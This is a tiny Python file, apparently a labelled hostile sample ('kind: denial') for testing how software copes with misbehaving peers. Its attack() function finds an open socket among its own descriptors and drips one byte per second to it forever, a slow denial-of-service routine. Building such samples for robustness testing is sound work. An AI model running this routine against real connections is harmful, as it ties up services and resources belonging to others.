"""Answers one byte a second.

kind: denial
"""

import os, stat, time
def attack():
    fd = next(f for f in range(3, 99) if os.path.exists(f'/proc/self/fd/{f}') and stat.S_ISSOCK(os.fstat(f).st_mode))
    while True: os.write(fd, bytes(1)); time.sleep(1)
